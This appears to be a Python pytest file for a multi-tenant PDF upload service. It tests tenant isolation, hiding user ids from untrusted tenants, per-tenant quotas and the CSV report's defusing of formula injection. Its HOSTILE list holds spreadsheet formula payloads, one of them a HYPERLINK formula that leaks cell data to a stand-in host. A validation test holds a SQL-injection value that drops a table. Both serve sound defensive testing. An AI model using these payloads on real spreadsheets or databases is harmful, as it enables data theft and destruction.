"""Tenants against each other: users scoped per tenant, quotas per tenant, no formulas in CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import zipfile
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from pathlib import Path

import asyncpg
import httpx
import pytest
from arq.constants import result_key_prefix
from redis.asyncio import Redis

from pdfqueue.domain import keys
from pdfqueue.domain.models import BatchStatus
from pdfqueue.domain.settings import Settings
from pdfqueue.stores.redis.queue import Job, deserialize, enqueue, remove
from pdfqueue.stores.redis.state import BatchState
from pdfqueue_dev.corpora.samples import CLEAN, build_corpus, write_zip
from tests.support.helpers import GLOBEX, MakeCorpus, RunWorker, upload
from tests.support.tenants import TenantApi, app_client

ZIP = {"Content-Type": "application/zip"}
MiB = 1024**2


async def seed_tenant_users(
    db: asyncpg.Connection, table: str, users: list[tuple[int, str, str]]
) -> None:
    """A users table shared by tenants: (id, email, tenant) rows, nobody linked yet."""
    await db.execute(
        f'CREATE TABLE "{table}" (id bigint PRIMARY KEY, email text NOT NULL,'
        " pdf_url text, tenant text NOT NULL, UNIQUE (tenant, email))"
    )
    await db.executemany(f'INSERT INTO "{table}" (id, email, tenant) VALUES ($1, $2, $3)', users)


def stored_zip(path: Path, size: int) -> Path:
    """A valid ZIP of about `size` bytes (stored random bytes, no PDF in it)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("notes.bin", os.urandom(size))
    return path


def _today() -> str:
    """The UTC day the bytes-per-day counter of an upload made now is kept under."""
    return datetime.now(UTC).strftime("%Y%m%d")


async def batch_ids(db: asyncpg.Connection, tenant: str) -> set[str]:
    rows = await db.fetch("SELECT id FROM pdfqueue_batches WHERE tenant = $1", tenant)
    return {r["id"] for r in rows}


# --- one users table, many tenants ---------------------------------------------------------------


@pytest.mark.settings(users_tenant_column="tenant")
async def test_a_batch_matches_and_links_only_its_own_tenants_users(
    api: httpx.AsyncClient,
    db: asyncpg.Connection,
    settings: Settings,
    run_worker: RunWorker,
    s3_keys: Callable[[str], list[str]],
    tmp_path: Path,
) -> None:
    corpus = build_corpus(4, seed=41, mix=CLEAN, extra_users=0)
    owner = {f.email: ("acme" if i < 2 else "globex") for i, f in enumerate(corpus.files)}
    users = [(u.id, u.email, owner[u.email]) for u in corpus.users]
    await seed_tenant_users(db, settings.users_table, users)
    path = write_zip(corpus, tmp_path / "mixed.zip", seed=41, junk=False)

    batch_id = await upload(api, path)  # acme uploads résumés of two acme and two globex users
    await run_worker()

    report = (await api.get(f"/v1/batches/{batch_id}/files")).json()
    outcomes = {r["name"]: (r["outcome"], r["reason"]) for r in report}
    assert outcomes == {
        f.name: ("linked", None) if i < 2 else ("skipped_no_match", "no_user")
        for i, f in enumerate(corpus.files)
    }
    rows = await db.fetch(f'SELECT id, tenant, pdf_url FROM "{settings.users_table}" ORDER BY id')
    assert sorted(r["tenant"] for r in rows if r["pdf_url"]) == ["acme", "acme"]
    assert [r["pdf_url"] for r in rows if r["tenant"] == "globex"] == [None, None]
    acme_ids = {r["id"] for r in rows if r["tenant"] == "acme"}
    stored = s3_keys("pdfs/")
    assert len(stored) == 2
    assert {int(k.split("/")[1]) for k in stored} == acme_ids  # no globex user's PDF was stored

    # globex's own upload of the same ZIP links exactly its two users, and nothing of acme's
    response = await api.post("/v1/batches", content=path.read_bytes(), headers=ZIP | GLOBEX)
    assert response.status_code == 202, response.text
    await run_worker()
    rows = await db.fetch(f'SELECT tenant, pdf_url FROM "{settings.users_table}"')
    assert sorted(r["tenant"] for r in rows if r["pdf_url"]) == ["acme", "acme", "globex", "globex"]
    assert len(s3_keys("pdfs/")) == 4


def test_tenant_column_is_validated_and_reports_hide_users_by_default() -> None:
    assert Settings().trusted_tenants == frozenset()  # default: no tenant sees user ids
    assert Settings().users_tenant_column is None
    assert Settings(trusted_tenants=" acme, ,beta ").trusted_tenants == {"acme", "beta"}
    for bad in ("tenant; DROP TABLE users", 'te"nant', "public.tenant", "1tenant", "", "tenant\n"):
        with pytest.raises(ValueError, match="PDFQUEUE_USERS_TENANT_COLUMN"):
            Settings(users_tenant_column=bad)
    with pytest.raises(ValueError, match="PDFQUEUE_USERS_TABLE"):  # `$` allows a final newline
        Settings(users_table="users\n")


async def test_the_report_names_users_only_to_trusted_tenants(
    api: httpx.AsyncClient,
    db: asyncpg.Connection,
    settings: Settings,
    run_worker: RunWorker,
    tmp_path: Path,
) -> None:
    corpus = build_corpus(3, seed=42, mix=CLEAN, extra_users=0)
    await db.execute(
        f'CREATE TABLE "{settings.users_table}" (id bigint PRIMARY KEY, email text, pdf_url text)'
    )
    await db.executemany(
        f'INSERT INTO "{settings.users_table}" (id, email) VALUES ($1, $2)',
        [(u.id, u.email) for u in corpus.users],
    )
    path = write_zip(corpus, tmp_path / "three.zip", seed=42, junk=False)
    response = await api.post("/v1/batches", content=path.read_bytes(), headers=ZIP | GLOBEX)
    assert response.status_code == 202, response.text
    batch_id = response.json()["batch_id"]
    await run_worker()

    # globex (not in PDFQUEUE_TRUSTED_TENANTS) learns outcomes, not who the users are
    report = (await api.get(f"/v1/batches/{batch_id}/files", headers=GLOBEX)).json()
    assert [r["outcome"] for r in report] == ["linked"] * 3
    assert [(r["user_id"], r["object_key"]) for r in report] == [(None, None)] * 3
    assert all(len(r["sha256"]) == 64 for r in report)  # the schema is unchanged
    schema = (await api.get("/openapi.json")).json()["components"]["schemas"]["FileResult"]
    assert {"user_id", "object_key"} <= set(schema["properties"])
    text = (await api.get(f"/v1/batches/{batch_id}/files?format=csv", headers=GLOBEX)).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["user_id"], r["object_key"]) for r in rows] == [("", "")] * 3
    user_ids = {str(u.id) for u in corpus.users}
    counts = {"index", "tries"}  # small numbers of their own, which may equal an id
    assert not [v for r in rows for k, v in r.items() if k not in counts and v in user_ids]
    assert "pdfs/" not in text
    # ... while the durable record (and a trusted tenant's view of it) keeps them
    durable = await db.fetch(
        "SELECT user_id, object_key FROM pdfqueue_files WHERE batch_id = $1", batch_id
    )
    assert {str(r["user_id"]) for r in durable} == user_ids
    trusted = settings.model_copy(update={"trusted_tenants": frozenset({"globex"})})
    async with app_client(trusted, GLOBEX) as client:
        shown = (await client.get(f"/v1/batches/{batch_id}/files")).json()
    assert {str(r["user_id"]) for r in shown} == user_ids
    assert all(r["object_key"].startswith(f"pdfs/{r['user_id']}/") for r in shown)


# --- per-tenant quotas on uploads ----------------------------------------------------------------


async def queue_size(redis: Redis, settings: Settings) -> int:
    return int(await redis.zcard(settings.queue_name))


async def test_uploads_per_minute_are_counted_atomically_under_a_race(
    tenant_api: TenantApi,
    db: asyncpg.Connection,
    redis: Redis,
    settings: Settings,
    s3_keys: Callable[[str], list[str]],
    tmp_path: Path,
) -> None:
    tenant, client = tenant_api(uploads_per_minute=2)
    body = stored_zip(tmp_path / "small.zip", 1000).read_bytes()
    async with client as api:
        responses = await asyncio.gather(
            *(api.post("/v1/batches", content=body, headers=ZIP) for _ in range(5))
        )
        statuses = sorted(r.status_code for r in responses)
        assert statuses == [202, 202, 429, 429, 429]
        for refused in (r for r in responses if r.status_code == 429):
            assert 1 <= int(refused.headers["Retry-After"]) <= 60
            assert "uploads_per_minute" in refused.json()["detail"]
        accepted = {r.json()["batch_id"] for r in responses if r.status_code == 202}
        schema = (await api.get("/openapi.json")).json()
        assert "429" in schema["paths"]["/v1/batches"]["post"]["responses"]
        # another tenant's uploads are not held back
        other = await api.post("/v1/batches", content=body, headers=ZIP | GLOBEX)
        assert other.status_code == 202, other.text

    assert await batch_ids(db, tenant) == accepted  # refused uploads created no batch ...
    assert sorted(s3_keys("uploads/")) == sorted(
        f"uploads/{b}.zip" for b in (*accepted, other.json()["batch_id"])
    )  # ... stored nothing ...
    assert await queue_size(redis, settings) == 3  # ... and queued nothing


async def test_bytes_per_day_count_what_streams_not_what_content_length_claims(
    tenant_api: TenantApi,
    db: asyncpg.Connection,
    redis: Redis,
    settings: Settings,
    s3_keys: Callable[[str], list[str]],
    tmp_path: Path,
) -> None:
    tenant, client = tenant_api(bytes_per_day=4 * MiB)
    first = stored_zip(tmp_path / "first.zip", 2 * MiB).read_bytes()
    big = stored_zip(tmp_path / "big.zip", 3 * MiB).read_bytes()
    streamed: list[int] = []

    async def lying_body() -> AsyncIterator[bytes]:
        for start in range(0, len(big), 64 * 1024):
            streamed.append(start)
            yield big[start : start + 64 * 1024]

    async with client as api:
        ok = await api.post("/v1/batches", content=first, headers=ZIP)
        assert ok.status_code == 202, ok.text
        # Content-Length says 100 bytes; 3 MiB follow. Counting stops it past the day's 4 MiB.
        lied = await api.post(
            "/v1/batches", content=lying_body(), headers=ZIP | {"Content-Length": "100"}
        )
        assert lied.status_code == 429, lied.text
        assert "bytes_per_day" in lied.json()["detail"]
        assert 1 <= int(lied.headers["Retry-After"]) <= 24 * 3600
        assert len(streamed) * 64 * 1024 < len(big)  # streaming stopped before the end
        # now the day is used up: refused before a byte of the body is read
        streamed.clear()
        again = await api.post("/v1/batches", content=lying_body(), headers=ZIP)
        assert again.status_code == 429
        assert int(again.headers["Retry-After"]) >= 1
        assert streamed == []

    assert await batch_ids(db, tenant) == {ok.json()["batch_id"]}
    assert s3_keys("uploads/") == [f"uploads/{ok.json()['batch_id']}.zip"]  # no multipart left
    assert await queue_size(redis, settings) == 1
    used = await redis.get(f"pdfqueue:quota:{tenant}:bytes:{_today()}")
    assert 4 * MiB < int(used) <= len(first) + 3 * MiB  # what arrived, not what was claimed


async def test_bytes_of_an_upload_cut_short_still_count(
    tenant_api: TenantApi, db: asyncpg.Connection, redis: Redis, s3_keys: Callable[[str], list[str]]
) -> None:
    tenant, client = tenant_api(bytes_per_day=10 * MiB)
    sent = b"PK\x03\x04" + b"\0" * (MiB - 10)  # just under the MiB that triggers a count

    async def hangs_up() -> AsyncIterator[bytes]:
        yield sent
        raise ConnectionResetError("the client went away")

    async with client as api:
        with pytest.raises(ConnectionResetError):
            await api.post("/v1/batches", content=hangs_up(), headers=ZIP)
    assert int(await redis.get(f"pdfqueue:quota:{tenant}:bytes:{_today()}")) == len(sent)
    assert await redis.zcard(f"pdfqueue:quota:{tenant}:inflight") == 0
    assert await batch_ids(db, tenant) == set()
    assert s3_keys("uploads/") == []


async def test_a_declared_size_over_the_days_rest_is_refused_before_streaming(
    tenant_api: TenantApi, db: asyncpg.Connection, s3_keys: Callable[[str], list[str]]
) -> None:
    tenant, client = tenant_api(bytes_per_day=MiB)
    read: list[bytes] = []

    async def body() -> AsyncIterator[bytes]:
        read.append(b"x")
        yield b"PK\x03\x04" + b"\0" * (2 * MiB)

    async with client as api:
        response = await api.post(
            "/v1/batches", content=body(), headers=ZIP | {"Content-Length": str(2 * MiB + 4)}
        )
    assert response.status_code == 429
    assert int(response.headers["Retry-After"]) >= 1
    assert read == []
    assert await batch_ids(db, tenant) == set()
    assert s3_keys("uploads/") == []


async def test_concurrent_batches_free_their_slot_when_they_end(
    tenant_api: TenantApi,
    db: asyncpg.Connection,
    redis: Redis,
    settings: Settings,
    run_worker: RunWorker,
    s3_keys: Callable[[str], list[str]],
    tmp_path: Path,
) -> None:
    tenant, client = tenant_api(concurrent_batches=2)
    body = stored_zip(tmp_path / "one.zip", 100).read_bytes()
    async with client as api:
        racing = await asyncio.gather(
            *(api.post("/v1/batches", content=body, headers=ZIP) for _ in range(4))
        )
        assert sorted(r.status_code for r in racing) == [202, 202, 429, 429]
        refused = next(r for r in racing if r.status_code == 429)
        assert int(refused.headers["Retry-After"]) == 30
        assert "concurrent_batches" in refused.json()["detail"]
        first, second = [r.json()["batch_id"] for r in racing if r.status_code == 202]
        assert await batch_ids(db, tenant) == {first, second}
        assert len(s3_keys("uploads/")) == 2

        # cancelling one frees its slot
        assert (await api.delete(f"/v1/batches/{first}")).json()["status"] == "CANCELLED"
        third = await api.post("/v1/batches", content=body, headers=ZIP)
        assert third.status_code == 202, third.text
        assert (await api.post("/v1/batches", content=body, headers=ZIP)).status_code == 429

        # ending frees them too (FAILED here: no PDF in them): the batches' own rows count
        await run_worker()
        for batch_id in (second, third.json()["batch_id"]):
            assert (await api.get(f"/v1/batches/{batch_id}")).json()["status"] == "FAILED"
        after = [await api.post("/v1/batches", content=body, headers=ZIP) for _ in range(3)]
        assert [r.status_code for r in after] == [202, 202, 429]
    assert len(await batch_ids(db, tenant)) == 5
    assert await queue_size(redis, settings) == 2  # the two new ingest jobs, nothing refused


async def test_a_batch_whose_final_write_was_lost_frees_its_slot_on_redelivery(
    tenant_api: TenantApi,
    db: asyncpg.Connection,
    redis: Redis,
    settings: Settings,
    make_corpus: MakeCorpus,
    run_worker: RunWorker,
) -> None:
    tenant, client = tenant_api(concurrent_batches=1)
    _corpus, path = await make_corpus(1, seed=43, mix=CLEAN, junk=False)
    async with client as api:
        response = await api.post("/v1/batches", content=path.read_bytes(), headers=ZIP)
        assert response.status_code == 202, response.text
        batch_id = response.json()["batch_id"]
        await run_worker()
        assert (await api.get(f"/v1/batches/{batch_id}")).json()["status"] == "COMPLETED"

        # A worker died between counting the last file in Redis and writing PostgreSQL's
        # summary: the row still says PROCESSING, and the tenant's only slot looks taken.
        await db.execute(
            "UPDATE pdfqueue_batches SET status = 'PROCESSING', completed_at = NULL WHERE id = $1",
            batch_id,
        )
        refused = await api.post("/v1/batches", content=path.read_bytes(), headers=ZIP)
        assert refused.status_code == 429
        # arq delivers that job again (its try was never finished): it has nothing to record
        job_id = keys.process_job(batch_id, 0)
        done = deserialize(await redis.get(result_key_prefix + job_id))
        await redis.delete(result_key_prefix + job_id)
        assert await enqueue(redis, settings.queue_name, [Job(job_id, "process", done["k"])]) == 1
        await run_worker()

        row = await db.fetchrow(
            "SELECT status, linked FROM pdfqueue_batches WHERE id = $1", batch_id
        )
        assert dict(row) == {"status": "COMPLETED", "linked": 1}
        again = await api.post("/v1/batches", content=path.read_bytes(), headers=ZIP)
        assert again.status_code == 202, again.text
    assert len(await batch_ids(db, tenant)) == 2


async def test_a_cancel_that_died_halfway_frees_its_slot_when_anything_touches_the_batch(
    tenant_api: TenantApi,
    db: asyncpg.Connection,
    redis: Redis,
    settings: Settings,
    run_worker: RunWorker,
    tmp_path: Path,
) -> None:
    tenant, client = tenant_api(concurrent_batches=1)
    body = stored_zip(tmp_path / "one.zip", 100).read_bytes()
    state = BatchState(redis, settings.batch_ttl_s)

    async def upload_and_cancel_only_in_redis(api: httpx.AsyncClient) -> str:
        response = await api.post("/v1/batches", content=body, headers=ZIP)
        assert response.status_code == 202, response.text
        batch_id: str = response.json()["batch_id"]
        await state.set_status(batch_id, BatchStatus.CANCELLED)  # then the canceller died
        assert (await api.post("/v1/batches", content=body, headers=ZIP)).status_code == 429
        return batch_id

    async def durable_status(batch_id: str) -> str:
        row = await db.fetchrow("SELECT status FROM pdfqueue_batches WHERE id = $1", batch_id)
        return str(row["status"])

    async with client as api:
        # its ingest job, still queued, runs, finds the batch over, and settles the row
        first = await upload_and_cancel_only_in_redis(api)
        await run_worker()
        assert await durable_status(first) == "CANCELLED"
        # or the tenant cancels again
        second = await upload_and_cancel_only_in_redis(api)
        await remove(redis, settings.queue_name, [keys.ingest_job(second)])
        assert (await api.delete(f"/v1/batches/{second}")).json()["status"] == "CANCELLED"
        assert await durable_status(second) == "CANCELLED"
        third = await api.post("/v1/batches", content=body, headers=ZIP)
        assert third.status_code == 202, third.text
    assert len(await batch_ids(db, tenant)) == 3


async def test_an_upload_that_fails_frees_its_slot(
    tenant_api: TenantApi, db: asyncpg.Connection, redis: Redis, tmp_path: Path
) -> None:
    tenant, client = tenant_api(concurrent_batches=1)
    body = stored_zip(tmp_path / "one.zip", 100).read_bytes()
    async with client as api:
        bad = await api.post("/v1/batches", content=b"not a zip at all", headers=ZIP)
        assert bad.status_code == 422
        assert await redis.zcard(f"pdfqueue:quota:{tenant}:inflight") == 0
        assert await batch_ids(db, tenant) == set()
        good = await api.post("/v1/batches", content=body, headers=ZIP)  # the one slot is free
        assert good.status_code == 202, good.text
        assert await redis.zcard(f"pdfqueue:quota:{tenant}:inflight") == 0  # the row counts now
        assert await batch_ids(db, tenant) == {good.json()["batch_id"]}


@pytest.mark.settings(redis_url="redis://127.0.0.1:1/0")
async def test_quota_checks_fail_closed_when_redis_is_down(
    tenant_api: TenantApi, db: asyncpg.Connection, s3_keys: Callable[[str], list[str]]
) -> None:
    tenant, client = tenant_api(uploads_per_minute=5, bytes_per_day=MiB, concurrent_batches=2)
    async with client as api:
        response = await api.post("/v1/batches", content=b"PK\x05\x06" + b"\0" * 18, headers=ZIP)
    assert response.status_code == 503
    assert await batch_ids(db, tenant) == set()
    assert s3_keys("uploads/") == []


def test_quotas_have_defaults_and_per_tenant_overrides(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PDFQUEUE_QUOTA_UPLOADS_PER_MINUTE", "7")
    monkeypatch.setenv(
        "PDFQUEUE_TENANT_QUOTAS",
        '{"big": {"bytes_per_day": 0, "concurrent_batches": 50, "retries_per_hour": 3}}',
    )
    settings = Settings()
    assert settings.quota_for("big").model_dump() == {
        "uploads_per_minute": 7,
        "bytes_per_day": 0,
        "concurrent_batches": 50,
        "retries_per_hour": 3,
    }
    assert settings.quota_for("small").model_dump() == {
        "uploads_per_minute": 7,
        "bytes_per_day": Settings().quota_bytes_per_day,
        "concurrent_batches": Settings().quota_concurrent_batches,
        "retries_per_hour": Settings().quota_retries_per_hour,
    }
    monkeypatch.delenv("PDFQUEUE_QUOTA_UPLOADS_PER_MINUTE")
    assert Settings().quota_uploads_per_minute > 0  # quotas are on unless turned off
    monkeypatch.setenv("PDFQUEUE_TENANT_QUOTAS", '{"big": {"bytes_a_day": 1}}')  # a typo
    with pytest.raises(ValueError, match="Extra inputs are not permitted"):
        Settings()
    monkeypatch.delenv("PDFQUEUE_TENANT_QUOTAS")
    with pytest.raises(ValueError, match="greater than or equal to 0"):
        Settings(quota_concurrent_batches=-1)


# --- CSV formula injection -----------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"open me").pdf',
    "+1+1.pdf",
    "-2-3.pdf",
    "@SUM(1;1).pdf",
    "\tcmd.pdf",
    "\rcmd.pdf",
    "\uff1dcmd.pdf",  # full-width = + - @
    "\uff0bcmd.pdf",
    "\uff0dcmd.pdf",
    "\uff20cmd.pdf",
    "=cmd.txt",  # ignored members are reported by name too
]
HARMLESS = ['quote"and,comma.pdf', "new\nline.pdf", "plain.pdf", "a=b.pdf"]


async def test_csv_report_defuses_formulas_and_quotes_every_name(
    api: httpx.AsyncClient, run_worker: RunWorker, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name in HOSTILE + HARMLESS:
            zf.writestr(name, b"not really a pdf")
    batch_id = await upload(api, path)
    await run_worker()

    response = await api.get(f"/v1/batches/{batch_id}/files", params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    names = sorted(r["name"] for r in rows)
    assert names == sorted(["'" + n for n in HOSTILE] + HARMLESS)
    # the JSON report is data, not a spreadsheet: names stay exactly as in the ZIP
    report = (await api.get(f"/v1/batches/{batch_id}/files")).json()
    assert sorted(r["name"] for r in report) == sorted(HOSTILE + HARMLESS)
